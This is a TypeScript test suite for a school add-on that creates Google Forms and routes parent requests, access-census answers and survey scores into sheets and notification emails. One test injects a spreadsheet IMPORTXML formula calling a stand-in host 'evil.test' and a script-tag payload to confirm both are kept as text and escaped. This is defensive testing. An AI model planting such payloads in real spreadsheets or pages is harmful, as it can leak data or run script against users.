/**
 * The forms capability on the in-memory adapters: the four forms made once by setup's forms step,
 * and each kind of response routed — requests to «Заявки» with an acknowledgement and an alert,
 * the census to «Доступ», low survey scores to the administrators — once per response row.
 */
import { nodeHmac } from '../../src/adapters/google/hmac';
import { FixedClock } from '../../src/adapters/memory/clock';
import { MemoryForms } from '../../src/adapters/memory/forms';
import { MemoryLock, MemoryMailer, MemoryStore } from '../../src/adapters/memory/services';
import { MemoryWorkbook } from '../../src/adapters/memory/workbook';
import { intlZone } from '../../src/adapters/memory/zone';
import { instantOf } from '../../src/domain/calendar';
import type { Cell, Grid } from '../../src/domain/cells';
import type { FormKind } from '../../src/domain/forms';
import { ru } from '../../src/i18n/ru';
import { en } from '../../src/i18n/en';
import { ensureForms, type FormsContext } from '../../src/jobs/ensure-forms';
import { handleFormResponse } from '../../src/jobs/form-responses';
import { sweepResponses } from '../../src/jobs/form-sweep';
import { runScheduledJobs } from '../../src/jobs/dispatcher';
import { deliver } from '../../src/jobs/shared/delivery';
import type { DeliveryContext } from '../../src/jobs/shared/outbox';
import { FORMS_PROPERTY, loadRegistry, saveRegistry } from '../../src/jobs/shared/form-registry';
import { loadSchool } from '../../src/jobs/shared/school';
import { setupWorkbook } from '../../src/jobs/setup-workbook';
import { sendSurveyInvitations, surveyInvitationsJob } from '../../src/jobs/survey-invitations';
import { silentLog } from '../../src/ports/log';
import { jobPorts } from '../support/memory';

const zone = intlZone('Europe/Moscow');
/** Friday 27.11.2026, 16:00 in Moscow: three school days on is Wednesday 02.12. */
const NOW = instantOf(zone, '2026-11-27', 16 * 60);
const ADMIN = 'zavuch@school.test';
const Q = ru.forms.questions;
const EMAIL = 'Адрес электронной почты';

function schoolSheets(settings: Record<string, string> = {}): Record<string, Grid> {
  return {
    Настройки: [
      ['Ключ', 'Значение'],
      ['school_name', 'Школа № 1'],
      ['admin_emails', ADMIN],
      ['school_email', 'school@school.test'],
      ['hotline_phones', '62-76-04'],
      ['mail_mode', 'live'],
      ['quota_reserve', '0'],
      ...Object.entries(settings),
    ],
    Классы: [
      ['Класс', 'Классный руководитель (email)', 'Email рассылки класса'],
      ['5А', 'ivanova@school.test', ''],
      ['6Б', 'petrov@school.test', 'class6b@groups.test'],
    ],
    Педагоги: [
      ['ФИО', 'Email', 'Роль'],
      ['Иванова Анна Петровна', 'ivanova@school.test', 'учитель'],
      ['Петров Олег Ильич', 'petrov@school.test', 'учитель'],
    ],
    Ученики: [
      ['ID', 'ФИО', 'Класс', 'Email ученика', 'Родитель 1', 'Email родителя 1', 'Обучается'],
      [
        'P1',
        'Алексеев Борис Ильич',
        '5А',
        'boris@pupil.test',
        'Алексеева Вера',
        'vera@home.test',
        'да',
      ],
      ['P2', 'Белова Дарья Олеговна', '5А', '', 'Белов Олег', 'oleg@home.test', 'да'],
      ['P3', 'Алексеева Ольга Ильинична', '6Б', '', 'Алексеева Вера', 'vera@home.test', 'да'],
      ['P4', 'Гусева Зоя Ивановна', '5А', '', 'Гусев Иван', 'ivan@home.test', 'нет'],
    ],
  };
}

interface Harness {
  readonly ctx: DeliveryContext & FormsContext;
  readonly workbook: MemoryWorkbook;
  readonly forms: MemoryForms;
  readonly store: MemoryStore;
  readonly mailer: MemoryMailer;
  readonly clock: FixedClock;
  /** The id of the form of a kind, from the registry. */
  formId(kind: FormKind): string;
}

/** A small school after setup and its forms step. */
function harness(settings: Record<string, string> = {}): Harness {
  const workbook = new MemoryWorkbook(schoolSheets(settings));
  const clock = new FixedClock(NOW);
  const store = new MemoryStore();
  const mailer = new MemoryMailer();
  const forms = new MemoryForms(workbook);
  const ctx = { ...jobPorts(workbook, clock, mailer, { store }), forms };
  setupWorkbook(ctx, { callerEmail: ADMIN });
  ensureForms(ctx);
  return {
    ctx,
    workbook,
    forms,
    store,
    mailer,
    clock,
    formId: (kind) => loadRegistry(store)[kind]!.formId,
  };
}

/** A sheet's rows as objects keyed by its header. */
function rowsOf(workbook: MemoryWorkbook, sheet: string): Array<Record<string, Cell>> {
  const [header = [], ...rows] = workbook.peek(sheet);
  return rows.map((row) => Object.fromEntries(header.map((h, i) => [String(h), row[i] ?? ''])));
}

/** The outbox as letters: key, subject, recipients and the stored content. */
function letters(workbook: MemoryWorkbook): Array<{
  key: string;
  job: string;
  subject: string;
  to: string[];
  cc: string[];
  bcc: string[];
  text: string;
  html: string;
}> {
  return rowsOf(workbook, ru.sheets.outbox.name).map((row) => {
    const content = JSON.parse(String(row['Содержимое'])) as {
      to: string[];
      cc: string[];
      bcc: string[];
      text: string;
      html: string;
    };
    return {
      key: String(row['Ключ']),
      job: String(row['Задача']),
      subject: String(row['Тема']),
      ...content,
    };
  });
}

const REQUEST = {
  [Q.type]: 'консультация',
  [Q.pupilId]: 'P1',
  [Q.class]: '5А',
  [Q.applicant]: 'Алексеева Вера Петровна',
  [Q.phone]: '+7 912 000-00-00',
  [Q.subject]: 'Математика',
  [Q.description]: 'Не получается решить задачи на дроби',
  [EMAIL]: 'vera@home.test',
};

describe('the forms step of setup', () => {
  it('creates the four forms once, each answering into its named response sheet', () => {
    const h = harness();
    expect(h.forms.list().map((f) => [f.spec.title, f.sheetName])).toEqual([
      [ru.forms.forms.parentSurvey.title, 'Опрос родителей'],
      [ru.forms.forms.pupilSurvey.title, 'Опрос учащихся'],
      [ru.forms.forms.request.title, 'Заявки (ответы)'],
      [ru.forms.forms.access.title, 'Доступ (ответы)'],
    ]);
    const again = ensureForms(h.ctx);
    expect(h.forms.list()).toHaveLength(4);
    expect(again.details).toEqual([]);
    expect(again.forms.every((f) => f.url.startsWith('https://docs.google.com/forms/'))).toBe(true);
    expect(Object.keys(JSON.parse(h.store.values.get(FORMS_PROPERTY)!) as object)).toEqual([
      'parentSurvey',
      'pupilSurvey',
      'request',
      'access',
    ]);
  });

  it('shares every form with the administrators, and remembers who made it', () => {
    const h = harness({ admin_emails: `${ADMIN}, director@school.test` });
    ensureForms({ ...h.ctx, user: ADMIN });
    for (const kind of ['parentSurvey', 'pupilSurvey', 'request', 'access'] as const)
      expect(h.forms.editorsOf(h.formId(kind))).toEqual(['director@school.test', ADMIN]);
    // A form the caller cannot open, made by another administrator, is not made again.
    const made = JSON.parse(h.store.values.get(FORMS_PROPERTY)!) as Record<
      string,
      { formId: string }
    >;
    h.store.set(
      FORMS_PROPERTY,
      JSON.stringify({ ...made, request: { ...made['request'], formId: 'gone', owner: ADMIN } }),
    );
    const other = ensureForms({ ...h.ctx, user: 'director@school.test' });
    expect(h.forms.list()).toHaveLength(4);
    expect(other.details).toContain(ru.forms.formNotShared(ru.forms.forms.request.title, ADMIN));
    // Its maker, who cannot open it either, has it made again.
    ensureForms({ ...h.ctx, user: ADMIN });
    expect(h.forms.list()).toHaveLength(5);
  });

  it('asks the questions of each form; the parent survey and the request collect the e-mail', () => {
    const h = harness();
    const byTitle = new Map(h.forms.list().map((f) => [f.spec.title, f.spec]));
    const parent = byTitle.get(ru.forms.forms.parentSurvey.title)!;
    expect(parent.collectEmail).toBe(true);
    expect(parent.questions.filter((q) => q.type === 'scale')).toHaveLength(4);
    const pupil = byTitle.get(ru.forms.forms.pupilSurvey.title)!;
    expect(pupil.collectEmail).toBe(false);
    expect(pupil.questions.filter((q) => q.type === 'scale')).toHaveLength(3);
    const request = byTitle.get(ru.forms.forms.request.title)!;
    expect(request.questions.find((q) => q.title === Q.type)?.choices).toEqual([
      'печатные материалы',
      'консультация',
    ]);
    const census = byTitle.get(ru.forms.forms.access.title)!;
    expect(census.questions.find((q) => q.title === Q.internet)?.choices).toEqual([
      'да',
      'нет',
      'нестабильный',
    ]);
  });

  it('makes a deleted form again and links an unlinked one again, with a fresh response sheet', () => {
    const h = harness();
    const request = h.formId('request');
    h.forms.remove(h.formId('parentSurvey'));
    h.forms.unlink(request);
    const outcome = ensureForms(h.ctx);
    expect(outcome.details).toContain(ru.forms.formsCreated(1));
    expect(outcome.details).toContain(ru.forms.formRelinked(ru.forms.forms.request.title));
    expect(h.formId('request')).toBe(request);
    expect(h.workbook.sheetNames()).toEqual(
      expect.arrayContaining(['Опрос родителей (2)', 'Заявки (ответы) (2)']),
    );
    // IDs from the new response sheet cannot meet those of the first one.
    const response = h.forms.submit(request, REQUEST, NOW);
    expect(response.row).toBe(2);
    expect(handleFormResponse(h.ctx, response).requestId).toBe('R2-2');
  });

  it('publishes every form it makes: each is published and accepting', () => {
    const h = harness();
    for (const kind of ['parentSurvey', 'pupilSurvey', 'request', 'access'] as const)
      expect(h.forms.find(h.formId(kind))).toMatchObject({ published: true, accepting: true });
  });

  it('publishes a form it finds unpublished, and only tells how to reopen one the school closed', () => {
    const h = harness();
    h.forms.close(h.formId('pupilSurvey'), 'unpublish');
    h.forms.close(h.formId('access'), 'stopAccepting');
    expect(() => h.forms.submit(h.formId('pupilSurvey'), {}, NOW)).toThrow('not published');
    const outcome = ensureForms(h.ctx);
    expect(h.forms.find(h.formId('pupilSurvey'))).toMatchObject({
      published: true,
      accepting: true,
    });
    expect(h.forms.find(h.formId('access'))).toMatchObject({ published: true, accepting: false });
    const census = outcome.forms.find((f) => f.kind === 'access')!;
    expect(outcome.details).toEqual(
      expect.arrayContaining([
        ru.forms.formPublished(ru.forms.forms.pupilSurvey.title),
        ru.forms.formNotAccepting(ru.forms.forms.access.title, census.editUrl),
      ]),
    );
  });

  it('names everything in English when the locale is en', () => {
    const h = harness({ locale: 'en' });
    expect(h.forms.list().map((f) => f.sheetName)).toEqual([
      'Parent survey',
      'Pupil survey',
      'Requests (responses)',
      'Access (responses)',
    ]);
    expect(h.forms.list()[2]?.spec.questions.map((q) => q.title)).toContain(
      en.forms.questions.type,
    );
  });
});

describe('a request', () => {
  it('becomes a row of «Заявки», status новая, due in three school days; letters are queued', () => {
    const h = harness();
    const outcome = handleFormResponse(h.ctx, h.forms.submit(h.formId('request'), REQUEST, NOW));
    expect(outcome.result).toBe('request');
    const rows = rowsOf(h.workbook, 'Заявки');
    expect(rows).toHaveLength(1);
    expect(rows[0]).toMatchObject({
      ID: 'R-2',
      Дата: NOW,
      Тип: 'консультация',
      'ID ученика': 'P1',
      Класс: '5А',
      Заявитель: 'Алексеева Вера Петровна',
      Телефон: '+7 912 000-00-00',
      Предмет: 'Математика',
      Статус: 'новая',
      Срок: instantOf(zone, '2026-12-02'),
    });
    // The school's own check reads the row as a valid request.
    const school = loadSchool(h.workbook, h.clock, ['requests']);
    expect(school.requests.map((r) => [r.value.id, r.value.status, r.value.due])).toEqual([
      ['R-2', 'new', '2026-12-02'],
    ]);

    const queued = letters(h.workbook);
    expect(queued.map((l) => [l.subject, l.to, l.cc])).toEqual([
      ['Заявка R-2 принята: консультация', ['vera@home.test'], []],
      ['Новая заявка R-2: консультация, 5А', [ADMIN], ['ivanova@school.test']],
    ]);
    expect(queued[0]!.text).toContain('02.12.2026');
    // The acknowledgement repeats what the applicant typed, not the pupil's name from the lists.
    expect(queued[0]!.text).not.toContain('Алексеев Борис');
    expect(queued[1]!.text).toContain('Алексеев Борис Ильич (P1)');
    expect(queued[1]!.text).toContain('+7 912 000-00-00');
    expect(outcome.messages).toBe(2);
  });

  it('twice (the trigger fired twice): one row, one acknowledgement', () => {
    const h = harness();
    const response = h.forms.submit(h.formId('request'), REQUEST, NOW);
    handleFormResponse(h.ctx, response);
    const second = handleFormResponse(h.ctx, response);
    expect(second.result).toBe('duplicate');
    expect(second.messages).toBe(0);
    expect(rowsOf(h.workbook, 'Заявки')).toHaveLength(1);
    expect(letters(h.workbook).filter((l) => l.subject.startsWith('Заявка R-2'))).toHaveLength(1);
  });

  it('reaches the applicant with the next delivery pass', () => {
    const h = harness();
    handleFormResponse(h.ctx, h.forms.submit(h.formId('request'), REQUEST, NOW));
    const school = loadSchool(h.workbook, h.clock, []);
    deliver(h.ctx, { settings: school.settings, strings: school.strings, budgetMs: 60_000 });
    expect(h.mailer.sent.map((m) => [m.subject, m.to])).toEqual([
      ['Заявка R-2 принята: консультация', ['vera@home.test']],
      ['Новая заявка R-2: консультация, 5А', [ADMIN]],
    ]);
    expect(h.mailer.sent[0]!.replyTo).toBe('school@school.test');
  });

  it('keeps formula-like and HTML text as text, and escapes it in the letters', () => {
    const h = harness();
    const description = '=IMPORTXML("http://evil.test","//a") <script>alert(1)</script>';
    handleFormResponse(
      h.ctx,
      h.forms.submit(
        h.formId('request'),
        { ...REQUEST, [Q.description]: description, [Q.applicant]: '<b>Вера</b>' },
        NOW,
      ),
    );
    expect(rowsOf(h.workbook, 'Заявки')[0]?.['Описание']).toBe(description);
    for (const letter of letters(h.workbook)) {
      expect(letter.html).not.toContain('<script>');
      expect(letter.html).not.toContain('<b>Вера');
      expect(letter.html).toContain('&lt;script&gt;alert(1)&lt;/script&gt;');
      expect(letter.text).toContain(description);
    }
  });

  it('with an unknown pupil ID is not stored; the applicant is told why', () => {
    const h = harness();
    const outcome = handleFormResponse(
      h.ctx,
      h.forms.submit(h.formId('request'), { ...REQUEST, [Q.pupilId]: 'P99' }, NOW),
    );
    expect(outcome.result).toBe('rejected');
    expect(rowsOf(h.workbook, 'Заявки')).toEqual([]);
    const queued = letters(h.workbook);
    expect(queued.map((l) => [l.subject, l.to])).toEqual([
      [ru.forms.rejectSubject, ['vera@home.test']],
    ]);
    expect(queued[0]!.text).toContain(ru.forms.reasonUnknownPupil('P99'));
  });

  it('that cannot be accepted and left no address goes to the administrators', () => {
    const h = harness();
    const { [EMAIL]: _email, ...noEmail } = REQUEST;
    handleFormResponse(
      h.ctx,
      h.forms.submit(h.formId('request'), { ...noEmail, [Q.type]: 'справка' }, NOW),
    );
    expect(rowsOf(h.workbook, 'Заявки')).toEqual([]);
    const queued = letters(h.workbook);
    expect(queued.map((l) => [l.subject, l.to])).toEqual([
      [ru.forms.invalidRequestSubject(2), [ADMIN]],
    ]);
    expect(queued[0]!.text).toContain(ru.forms.reasonUnknownType('справка'));
    expect(queued[0]!.text).toContain('+7 912 000-00-00');
  });
});

describe('other responses', () => {
  it('an empty event does nothing', () => {
    const h = harness();
    const before = h.workbook.peek(ru.sheets.outbox.name);
    const outcome = handleFormResponse(h.ctx, {
      sheetName: 'Заявки (ответы)',
      row: 2,
      answers: { 'Отметка времени': '', [Q.pupilId]: '', [Q.type]: '' },
    });
    expect(outcome.result).toBe('empty');
    expect(rowsOf(h.workbook, 'Заявки')).toEqual([]);
    expect(h.workbook.peek(ru.sheets.outbox.name)).toEqual(before);
  });

  it('a census response becomes one row of «Доступ», in the workbook words', () => {
    const h = harness();
    const response = h.forms.submit(
      h.formId('access'),
      {
        [Q.pupilId]: 'p2',
        [Q.computer]: 'нет',
        [Q.internet]: 'нестабильный',
        [Q.device]: 'телефон мамы',
        [Q.paper]: 'да',
        [Q.contact]: 'телефон',
        [Q.filledBy]: 'Белов Олег, отец',
      },
      NOW,
    );
    expect(handleFormResponse(h.ctx, response).result).toBe('census');
    expect(handleFormResponse(h.ctx, response).result).toBe('duplicate');
    expect(rowsOf(h.workbook, 'Доступ')).toEqual([
      {
        'ID ученика': 'P2',
        Дата: NOW,
        Компьютер: 'нет',
        Интернет: 'нестабильный',
        Устройство: 'телефон мамы',
        'Печатные материалы': 'да',
        'Способ связи': 'телефон',
        Заполнил: 'Белов Олег, отец',
      },
    ]);
    expect(loadSchool(h.workbook, h.clock, ['access']).access.map((a) => a.value)).toEqual([
      expect.objectContaining({
        pupilId: 'P2',
        computer: false,
        internet: 'unstable',
        paper: true,
      }),
    ]);
    expect(letters(h.workbook)).toEqual([]);
  });

  const survey = (score: number) => ({
    [Q.pupilId]: 'P1',
    [Q.organisation]: 4,
    [Q.clarity]: score,
    [Q.feedback]: 5,
    [Q.workload]: 4,
    [Q.comment]: 'Слишком много заданий <вечером>',
    [EMAIL]: 'vera@home.test',
  });

  it('a survey answer with a score of 1 alerts the administrators, once', () => {
    const h = harness();
    const response = h.forms.submit(h.formId('parentSurvey'), survey(1), NOW);
    expect(handleFormResponse(h.ctx, response).messages).toBe(1);
    expect(handleFormResponse(h.ctx, response).messages).toBe(0);
    const queued = letters(h.workbook);
    expect(queued.map((l) => [l.subject, l.to])).toEqual([
      [ru.forms.lowScoreSubject('Опрос родителей', 1), [ADMIN]],
    ]);
    expect(queued[0]!.text).toContain(`${Q.clarity}: 1`);
    expect(queued[0]!.html).toContain('&lt;вечером&gt;');
    // The answer stays on its response sheet only.
    expect(h.workbook.peek('Опрос родителей')).toHaveLength(2);
  });

  it('a survey answer of 5 (or above the threshold) alerts nobody', () => {
    const h = harness();
    handleFormResponse(h.ctx, h.forms.submit(h.formId('parentSurvey'), survey(5), NOW));
    handleFormResponse(h.ctx, h.forms.submit(h.formId('parentSurvey'), survey(3), NOW));
    expect(letters(h.workbook)).toEqual([]);
  });

  it('a pupil survey answer is routed by its sheet, even after the school renamed it', () => {
    const h = harness();
    const response = h.forms.submit(
      h.formId('pupilSurvey'),
      { [Q.pupilId]: 'P2', [Q.pupilClarity]: 2, [Q.pupilFeedback]: 4, [Q.pupilWorkload]: 4 },
      NOW,
    );
    const outcome = handleFormResponse(h.ctx, { ...response, sheetName: 'Ученики: мнения' });
    expect(outcome.result).toBe('survey');
    expect(letters(h.workbook).map((l) => l.subject)).toEqual([
      ru.forms.lowScoreSubject('Опрос учащихся', 2),
    ]);
  });

  it('a sheet that is no form of the add-on is left alone', () => {
    const h = harness();
    const outcome = handleFormResponse(h.ctx, {
      sheetName: 'Ответы на форму (1)',
      sheetId: 777,
      row: 2,
      answers: { [Q.pupilId]: 'P1' },
    });
    expect(outcome.result).toBe('unknownSheet');
    expect(letters(h.workbook)).toEqual([]);
  });
});

describe('survey invitations', () => {
  it('invite every family once and every pupil with an address, in Bcc per class', () => {
    const h = harness();
    const outcome = sendSurveyInvitations(h.ctx, '2026-12');
    const queued = letters(h.workbook);
    const parentUrl = loadRegistry(h.store).parentSurvey!.url;
    const pupilUrl = loadRegistry(h.store).pupilSurvey!.url;
    expect(queued.map((l) => [l.to, l.bcc])).toEqual([
      [['school@school.test'], ['oleg@home.test', 'vera@home.test']],
      [['school@school.test'], ['boris@pupil.test']],
      [['class6b@groups.test'], []],
    ]);
    expect(queued[0]!.text).toContain(parentUrl);
    expect(queued[0]!.text).not.toContain(pupilUrl);
    expect(queued[1]!.text).toContain(pupilUrl);
    expect(queued[2]!.text).toContain(parentUrl);
    expect(queued[2]!.text).toContain(pupilUrl);
    expect(outcome.messages).toBe(3);
    // The same month again queues nothing.
    expect(sendSurveyInvitations(h.ctx, '2026-12').messages).toBe(0);
  });

  it('follow `survey_invitations`: monthly on the 1st, weekly on Monday, at 10:00, or never', () => {
    const school = (value: string) =>
      loadSchool(
        new MemoryWorkbook(schoolSheets({ survey_invitations: value })),
        new FixedClock(NOW),
        [],
      );
    expect(surveyInvitationsJob.cadence(school('monthly').settings)).toEqual({
      kind: 'monthly',
      hour: 10,
    });
    expect(surveyInvitationsJob.cadence(school('weekly').settings)).toEqual({
      kind: 'weekly',
      weekday: 1,
      hour: 10,
    });
    expect(surveyInvitationsJob.cadence(school('off').settings)).toEqual({ kind: 'onDemand' });
  });

  it('go out at the first hourly run on the 1st, not on a run days into the month', () => {
    const h = harness();
    const run = () => runScheduledJobs(h.ctx, { jobs: [surveyInvitationsJob], budgetMs: 60_000 });
    // Installed on 27 November: November's invitations are let go.
    expect(run().jobs.map((j) => [j.job, j.messages])).toEqual([['surveyInvitations', 0]]);
    expect(h.mailer.sent).toEqual([]);
    h.clock.beginRun(instantOf(zone, '2026-12-01', 10 * 60 + 17));
    expect(run().jobs.map((j) => [j.job, j.messages])).toEqual([['surveyInvitations', 3]]);
    expect(h.mailer.sent.map((m) => m.subject)).toEqual(Array(3).fill(ru.forms.inviteSubject));
    h.clock.beginRun(instantOf(zone, '2026-12-01', 11 * 60 + 17));
    expect(run().jobs).toEqual([]);
  });

  it('send nothing before the forms exist', () => {
    const workbook = new MemoryWorkbook(schoolSheets());
    const ctx = {
      workbook,
      clock: new FixedClock(NOW),
      log: silentLog,
      mailer: new MemoryMailer(),
      lock: new MemoryLock(),
      hmac: nodeHmac,
      store: new MemoryStore(),
    };
    const outcome = sendSurveyInvitations(ctx, '2026-12');
    expect(outcome.summary).toBe(ru.forms.invitationsNoForms);
    expect(workbook.sheetNames()).not.toContain(ru.sheets.outbox.name);
  });
});

describe('the sweep of responses', () => {
  const sweep = (h: Harness) =>
    sweepResponses({
      ...h.ctx,
      settings: loadSchool(h.workbook, h.clock, []).settings,
      strings: ru,
      period: '2026-11-28',
      cursor: undefined,
      memo: undefined,
      outOfTime: () => false,
    });

  it('routes a response no trigger handled, once', () => {
    const h = harness();
    h.forms.submit(h.formId('request'), REQUEST, NOW); // the trigger never ran
    expect(sweep(h).outcome.summary).toBe(ru.forms.swept(1, 0));
    expect(rowsOf(h.workbook, 'Заявки').map((r) => r['ID'])).toEqual(['R-2']);
    expect(letters(h.workbook).map((l) => l.key)).toHaveLength(2);
    expect(sweep(h).outcome.summary).toBe(ru.forms.swept(0, 0));
    expect(rowsOf(h.workbook, 'Заявки')).toHaveLength(1);
  });

  it('leaves alone what the trigger routed, and updates what was edited since', () => {
    const h = harness();
    const response = h.forms.submit(
      h.formId('access'),
      { [Q.pupilId]: 'P1', [Q.internet]: 'нет' },
      NOW,
    );
    handleFormResponse(h.ctx, response);
    expect(sweep(h).outcome.summary).toBe(ru.forms.swept(0, 0));
    // The answer is corrected on the response sheet.
    const sheet = response.sheetName;
    const header = h.workbook.peek(sheet)[0]!.map(String);
    h.workbook.write(sheet, response.row, [['да']], header.indexOf(Q.internet) + 1);
    expect(sweep(h).outcome.summary).toBe(ru.forms.swept(0, 1));
    expect(rowsOf(h.workbook, 'Доступ').map((r) => [r['ID ученика'], r['Интернет']])).toEqual([
      ['P1', 'да'],
    ]);
  });

  it('takes over the rows of a sheet an older version linked without routing them again', () => {
    const h = harness();
    h.forms.submit(h.formId('parentSurvey'), { [Q.pupilId]: 'P1', [Q.organisation]: 1 }, NOW);
    // An older version's registry: no first row for the sweep.
    const registry = loadRegistry(h.store);
    saveRegistry(h.store, {
      ...registry,
      parentSurvey: { ...registry.parentSurvey!, since: undefined },
    });
    expect(sweep(h).outcome.summary).toBe(ru.forms.swept(0, 0));
    expect(letters(h.workbook)).toEqual([]);
    expect(loadRegistry(h.store).parentSurvey?.since).toBe(3);
    // A later answer is the sweep's.
    h.forms.submit(h.formId('parentSurvey'), { [Q.pupilId]: 'P2', [Q.organisation]: 1 }, NOW);
    expect(sweep(h).outcome.summary).toBe(ru.forms.swept(1, 0));
  });
});
